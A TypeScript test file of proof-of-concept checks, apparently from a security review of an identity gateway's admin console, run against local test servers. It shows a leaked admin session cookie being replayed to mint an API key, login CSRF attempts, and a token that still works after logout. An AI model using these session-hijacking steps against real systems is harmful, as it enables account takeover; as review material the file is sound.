import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { request as httpRequest } from 'node:http';
import { writeFileSync } from 'node:fs';
import { adminToken, startIdentityGateway, type IdentityGateway } from './helpers/identity.js';
import { startUpstream, type TestUpstream } from './helpers/gateway.js';
import { send, sendRaw } from './helpers/http.js';

const ADMIN_TOKEN = 'an-admin-token-of-at-least-32-characters';
const EMAIL = 'boss@example.com', PASSWORD = 'the chief passphrase 2';
let id: IdentityGateway; let upstream: TestUpstream; let admin: string;
const out: string[] = [];
const log = (...a: unknown[]) => out.push(a.map((x) => (typeof x === 'string' ? x : JSON.stringify(x))).join(' '));

beforeAll(async () => {
  upstream = await startUpstream();
  id = await startIdentityGateway({
    backend: 'sqlite',
    admin: { enabled: true, listen: { host: '127.0.0.1', port: 0 }, token: ADMIN_TOKEN },
    upstreams: { app: { targets: [{ url: upstream.url }] } },
    routes: [{ name: 'app', match: { path: '/app/*' }, upstream: 'app', public: true }],
  });
  admin = id.gw.runtime.adminUrl!;
  await adminToken(id, EMAIL, PASSWORD);
}, 60_000);
afterAll(async () => { writeFileSync('/tmp/review-admin/poc.out', out.join('\n')); await id?.close(); await upstream?.close(); });

const json = (path: string, method: string, body: unknown, headers: Record<string, string> = {}) => {
  const b = JSON.stringify(body);
  return send(admin, path, { method, headers: { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(b)), ...headers }, body: b });
};

describe('review PoCs', () => {
  it('console cookie is forwarded to upstreams by the gateway listener and is a full admin credential', async () => {
    const login = await json('/api/session', 'POST', { email: EMAIL, password: PASSWORD });
    const cookie = String(login.headers['set-cookie']).split(';')[0]!;
    // What a browser sends to https://<same host>:<gateway port>/ (cookies are not port-scoped).
    await id.call('GET', '/app/page', { headers: { cookie: `${cookie}; theme=dark` } });
    const seen = upstream.requests.at(-1)!.headers.cookie;
    log('upstream received cookie:', seen);
    // The upstream replays it: reads the CSRF token, then makes an API key.
    const stolen = String(seen).split('; ').find((c) => c.startsWith('rampart_admin='))!;
    const s = await send(admin, '/api/session', { headers: { cookie: stolen } });
    const csrf = s.json<{ csrfToken: string }>().csrfToken;
    const users = (await send(admin, '/api/users', { headers: { cookie: stolen } })).json<{ items: { id: string; email: string }[] }>();
    const owner = users.items.find((u) => u.email === EMAIL)!.id;
    const key = await json('/api/apikeys', 'POST', { ownerId: owner, name: 'stolen' }, { cookie: stolen, 'x-csrf-token': csrf });
    log('replayed cookie -> POST /api/apikeys', key.status, key.text.slice(0, 120));
    expect(seen).toContain('rampart_admin=');
  });

  it('login CSRF: text/plain and form bodies', async () => {
    for (const ct of ['text/plain', 'application/x-www-form-urlencoded', 'text/plain;charset=utf-8']) {
      const b = JSON.stringify({ token: ADMIN_TOKEN });
      const r = await send(admin, '/api/session', { method: 'POST', headers: { 'content-type': ct, 'content-length': String(b.length) }, body: b });
      log('login with', ct, r.status, r.text.slice(0, 100));
    }
  });

  it('problem+json on malformed requests', async () => {
    const raw = await sendRaw(admin, 'GET api/config HTTP/1.1\r\nHost: x\r\n\r\n');
    log('malformed request line ->', raw.replace(/\r\n/g, ' | ').slice(0, 300));
  });

  it('an access-token SSE stream outlives logout-all and role removal', async () => {
    const loginRes = await id.call('POST', '/api/v1/auth/login', { json: { email: EMAIL, password: PASSWORD } });
    const access = loginRes.json<{ access_token: string }>().access_token;
    const url = new URL(admin);
    let ticks = 0; let ended = false;
    const req = httpRequest({ host: url.hostname, port: url.port, path: '/api/live', headers: { authorization: `Bearer ${access}` } }, (res) => {
      res.on('data', (c: Buffer) => { ticks += (c.toString().match(/event: tick/g) ?? []).length; });
      res.on('end', () => (ended = true));
    });
    req.end();
    await new Promise((r) => setTimeout(r, 1500));
    const lo = await id.call('POST', '/api/v1/auth/logout-all', { token: access });
    log('logout-all', lo.status);
    const after = await send(admin, '/api/overview', { headers: { authorization: `Bearer ${access}` } });
    log('same token on /api/overview after logout-all', after.status);
    const before = ticks;
    await new Promise((r) => setTimeout(r, 17_000));
    log('SSE after logout-all: ticks since', ticks - before, 'ended', ended);
    req.destroy();
  }, 30_000);
});
